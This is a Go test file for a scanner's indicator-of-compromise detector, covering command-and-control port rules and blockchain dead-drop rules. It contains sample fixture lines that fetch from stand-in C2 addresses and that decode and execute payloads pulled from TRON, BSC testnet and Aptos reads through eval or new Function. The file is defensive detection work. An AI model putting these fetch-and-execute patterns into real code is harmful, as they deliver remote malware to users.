package scan

import "testing"

// TestC2PortVariants: a C2 port is found when the host is joined at run
// time or the port is kept in its own variable next to a server address;
// a number that happens to be 1224 is not a port.
func TestC2PortVariants(t *testing.T) {
	t.Parallel()
	d := NewIOCDetector(BuiltinIOCs(), 1<<20)
	for _, tc := range []struct {
		name, path, src string
		want            int // C2-PORT findings
	}{
		{"joined host", "a.js", "const u = 'http://' + host + ':1244/keys';\n", 1},
		{"template", "a.js", "const u = `http://${host}:1224/pdown`;\n", 1},
		{"port variable", "a.js", "const host = '198.51.100.4';\nconst port = 1224;\n", 1},
		{"python", "a.py", "HOST = '203.0.113.9'\nPORT = 8637\n", 1},
		{"port key quoted", "a.js", "module.exports = { url: 'http://h.example', port: '2245' };\n", 1},
		{"plain host:port", "a.js", "fetch('http://198.51.100.4:1224/client/9')\n", 1},
		{"json number", "a.json", "{\"width\":1224,\"height\":2245}\n", 0},
		{"port without host", "a.js", "const port = 1224;\napp.listen(port);\n", 0},
		{"quoted number", "a.js", "const sizes = ['1224', '2245'];\n", 0},
		{"longer number", "a.js", "const u = 'http://h.example:12245/x';\nconst port = 12244;\n", 0},
	} {
		got := 0
		for _, f := range d.Detect(&File{Path: tc.path, Data: []byte(tc.src)}) {
			if f.Rule == "C2-PORT" {
				got++
			}
		}
		if got != tc.want {
			t.Errorf("%s: %d C2-PORT findings, want %d", tc.name, got, tc.want)
		}
	}
}

// TestDeadDropVariants: TRON through Tronscan, the BSC testnet's eth_call
// (EtherHiding) and Aptos testnet reads whose result is decoded or run
// are dead drops; the same reads whose result is only shown are not.
func TestDeadDropVariants(t *testing.T) {
	t.Parallel()
	d := NewIOCDetector(BuiltinIOCs(), 1<<20)
	for _, src := range []string{
		"fetch('https://apilist.tronscanapi.com/api/transaction?address=' + a).then(t => Buffer.from(t.raw_data.data, 'hex'))",
		"const p = 'https://data-seed-prebsc-1-s1.bnbchain.org:8545'; body = {method: 'eth_call'}; run(Buffer.from(r.result.slice(130), 'hex').toString())",
		"new ethers.JsonRpcProvider('https://bsc-testnet.publicnode.com'); const c = new ethers.Contract(a, abi, p); eval(atob(await c.get()))",
		"fetch(`https://fullnode.testnet.aptoslabs.com/v1/accounts/${a}/transactions`).then(x => new Function(hexToString(x[0].payload))())",
	} {
		found := false
		for _, f := range d.Detect(&File{Path: "a.js", Data: []byte(src)}) {
			found = found || f.Rule == "BLOCKCHAIN-DEAD-DROP-FETCH"
		}
		if !found {
			t.Errorf("no dead drop in %q", src)
		}
	}
	for _, src := range []string{
		"const p = 'https://bsc-dataseed.binance.org/'; body = {method: 'eth_call', params: [{to: usdt, data: sel + addr}]}; console.log(BigInt(r.data.result))",
		"new ethers.JsonRpcProvider('https://bsc-testnet.publicnode.com'); const c = new ethers.Contract(a, abi, p); setBalance(await c.balanceOf(me))",
	} {
		for _, f := range d.Detect(&File{Path: "a.js", Data: []byte(src)}) {
			if f.Rule == "BLOCKCHAIN-DEAD-DROP-FETCH" {
				t.Errorf("dead drop reported for a dApp read: %q", src)
			}
		}
	}
}
